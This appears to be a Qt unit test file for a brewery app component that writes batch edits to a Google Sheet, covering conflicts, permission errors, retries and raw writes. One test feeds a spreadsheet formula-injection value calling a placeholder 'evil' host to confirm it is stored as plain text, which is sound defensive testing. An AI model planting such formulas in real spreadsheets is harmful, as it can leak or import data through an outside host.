// SPDX-FileCopyrightText: Cellar Panel contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "batches/sheetwriter.h"
#include "cloud/batches/googlefixtures.h"
#include "fakes/manualclock.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace std::chrono_literals;
using namespace cellar;

namespace {

const QList<BatchVessel> vessels{{u"fv-10-1"_s, u"FV 10/1"_s}, {u"fv-10-2"_s, u"FV 10/2"_s}};

QByteArray sheetOf(const QByteArray &rows)
{
    return R"({"range":"Main!A1:Z26","values":[["Batch #","Beer","Vessel","Gravity","Notes"],)" + rows + "]}";
}

BatchEdit edit(const QString &value, const QString &seen = u"1.020"_s)
{
    Batch batch;
    batch.number = u"1042"_s;
    return {u"fv-10-1"_s, BatchColumn::Gravity, batchKey(batch), value, seen, {}, u"kim"_s, Timestamp(1ms), true};
}

} // namespace

class SheetWriterTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void sheetHasChanged_data();
    void sheetHasChanged();
    void noColumn();
    void notAllowed();
    void goesOnAfterTrouble();
    void unreadableSheet();
    void typedAnewMeanwhile();
    void givenUpMeanwhile();

    void writesOneCell();
    void formulasAreWrittenAsText();
    void isThereAlready();
    void oneAfterTheOther();

private:
    void start(const SheetWriter::Timing &timing = {5ms, 20ms});

    QByteArray m_pem;
    ManualClock m_clock;
    WebClient m_web;
    std::unique_ptr<FakeGoogle> m_google;
    std::unique_ptr<GoogleHttp> m_http;
    std::unique_ptr<GoogleToken> m_token;
    std::unique_ptr<SheetClient> m_client;
    std::unique_ptr<SheetWriter> m_writer;
    QList<BatchEdit> m_written;
    QStringList m_refused;
};

void SheetWriterTest::initTestCase()
{
    m_pem = rsaKey();
    QVERIFY2(!m_pem.isEmpty(), "the program openssl is needed");
}

void SheetWriterTest::init()
{
    m_google = std::make_unique<FakeGoogle>();
    m_google->sheet = sheetOf(R"(["1043","IPA","FV 10/2"],["1042","Pils","FV 10/1","1.020"])");
    m_written.clear();
    m_refused.clear();
}

void SheetWriterTest::cleanup()
{
    m_writer.reset();
    m_client.reset();
    m_token.reset();
    m_http.reset();
    m_google.reset();
}

void SheetWriterTest::start(const SheetWriter::Timing &timing)
{
    const auto account = ServiceAccount::fromSecret(secretOf(keyFile(m_pem, m_google->tokenUri())));
    QVERIFY(account);
    m_http = std::make_unique<GoogleHttp>(m_web, m_clock);
    m_token =
        std::make_unique<GoogleToken>(*account, QString::fromLatin1(GoogleToken::readWriteScope), *m_http, m_clock);
    m_client =
        std::make_unique<SheetClient>(SheetPlace{m_google->server.url(), u"1aB"_s, u"Main"_s, 25}, *m_token, *m_http);
    m_writer = std::make_unique<SheetWriter>(*m_client, vessels, BatchTableRules{}, timing);
    connect(m_writer.get(), &BatchWriter::written, this, [this](const BatchEdit &done) { m_written.append(done); });
    connect(m_writer.get(), &BatchWriter::refused, this,
        [this](const BatchEdit &, const QString &why) { m_refused.append(why); });
}

void SheetWriterTest::sheetHasChanged_data()
{
    QTest::addColumn<QByteArray>("rows");
    QTest::addColumn<QString>("why");
    const QString other =
        u"\"Gravity\" \"1.012\" of FV 10/1 was not written: the sheet has changed, the vessel holds another batch or none"_s;
    QTest::newRow("another batch") << R"(["1044","Stout","FV 10/1","1.020"])"_ba << other;
    QTest::newRow("emptied") << R"(["1042","Pils","","1.020"])"_ba << other;
    QTest::newRow("moved to another vessel") << R"(["1042","Pils","FV 10/2","1.020"])"_ba << other;
    QTest::newRow("row gone") << R"([])"_ba << other;
    QTest::newRow("other value")
        << R"(["1042","Pils","FV 10/1","1.018"])"_ba
        << u"\"Gravity\" \"1.012\" of FV 10/1 was not written: the sheet has changed, it says \"1.018\" now"_s;
}

void SheetWriterTest::sheetHasChanged()
{
    QFETCH(QByteArray, rows);
    m_google->sheet = sheetOf(rows);
    start();
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_COMPARE(m_refused.size(), 1);
    QTEST(m_refused.first(), "why");
    QVERIFY(m_google->writes().isEmpty());
    QVERIFY(m_writer->trouble().isEmpty());
}

void SheetWriterTest::noColumn()
{
    m_google->sheet = R"({"values":[["Batch #","Beer","Vessel"],["1042","Pils","FV 10/1"]]})";
    start();
    m_writer->setPending({edit(u"1.012"_s, {})});
    QTRY_COMPARE(
        m_refused, QStringList{u"\"Gravity\" \"1.012\" of FV 10/1 was not written: the sheet has no such column"_s});
    QVERIFY(m_google->writes().isEmpty());
}

void SheetWriterTest::notAllowed()
{
    start({5ms, 1h});
    m_google->writeStatus = 403;
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_VERIFY(
        m_writer->trouble().endsWith(u"answered 403; share the sheet with panel@cellar.iam.gserviceaccount.com"));
    QVERIFY(m_refused.isEmpty()); // it waits for that
    m_google->writeStatus = 200;
    QTRY_COMPARE(m_written.size(), 1);
    QCOMPARE(m_writer->trouble(), QString());
}

void SheetWriterTest::goesOnAfterTrouble()
{
    start();
    m_google->server.vanish();
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_VERIFY(!m_writer->trouble().isEmpty());
    QVERIFY(m_google->server.comeBack());
    QTRY_COMPARE(m_written.size(), 1);
}

void SheetWriterTest::unreadableSheet()
{
    start();
    m_google->sheet = R"({"values":[["Nothing","of","that"]]})";
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_VERIFY(m_writer->trouble().contains(u"no row of headings"));
    QVERIFY(m_google->writes().isEmpty());
    m_google->sheet = sheetOf(R"(["1042","Pils","FV 10/1","1.020"])");
    QTRY_COMPARE(m_written.size(), 1);
}

void SheetWriterTest::typedAnewMeanwhile()
{
    start();
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_COMPARE(m_google->reads(), 1); // under way
    BatchEdit second = edit(u"1.010"_s);
    second.ours = u"1.012"_s;
    m_writer->setPending({second});
    QTRY_VERIFY(m_written.contains(second));
    QVERIFY(m_google->writes().last().body.contains("1.010"));
    QVERIFY(m_refused.isEmpty());
}

void SheetWriterTest::givenUpMeanwhile()
{
    start();
    m_google->isHanging = true;
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_COMPARE(m_google->reads(), 1);
    m_writer->setPending({});
    const auto waiting = m_google->server.requests().last();
    ScriptedHttpServer::answer(waiting, 200, m_google->sheet);
    m_google->isHanging = false;
    BatchEdit other = edit(u"x"_s, {});
    other.field = BatchColumn::Notes;
    m_writer->setPending({other});
    QTRY_VERIFY(m_written.contains(other));
    QCOMPARE(m_google->writes().size(), 1);
}

void SheetWriterTest::writesOneCell()
{
    start();
    m_writer->setPending({edit(u"1.012"_s)});
    QTRY_VERIFY(m_written == QList<BatchEdit>{edit(u"1.012"_s)});
    const auto writes = m_google->writes();
    QCOMPARE(writes.size(), 1);
    QCOMPARE(writes.first().path, "/v4/spreadsheets/1aB/values/%27Main%27%21D3?valueInputOption=RAW"_ba);
    QCOMPARE(writes.first().headers.value("content-type"), "application/json"_ba);
    QCOMPARE(QJsonDocument::fromJson(writes.first().body).toJson(QJsonDocument::Compact),
        R"({"majorDimension":"ROWS","range":"'Main'!D3","values":[["1.012"]]})"_ba);
}

void SheetWriterTest::formulasAreWrittenAsText()
{
    start();
    m_writer->setPending({edit(u"=IMPORTDATA(\"http://evil\")"_s)});
    QTRY_COMPARE(m_written.size(), 1);
    QVERIFY(m_google->writes().first().path.endsWith("?valueInputOption=RAW"));
}

void SheetWriterTest::isThereAlready()
{
    start();
    m_writer->setPending({edit(u"1.020"_s, u"1.030"_s)});
    QTRY_COMPARE(m_written.size(), 1);
    QVERIFY(m_google->writes().isEmpty());
}

void SheetWriterTest::oneAfterTheOther()
{
    start();
    BatchEdit note = edit(u"crash it"_s, {});
    note.field = BatchColumn::Notes;
    m_writer->setPending({edit(u"1.012"_s), note});
    QTRY_VERIFY(m_written == (QList<BatchEdit>{edit(u"1.012"_s), note}));
    QVERIFY(m_google->writes().last().path.contains("%21E3?"));
    QCOMPARE(m_google->tokens, 1);
}

QTEST_GUILESS_MAIN(SheetWriterTest)
#include "tst_sheetwriter.moc"
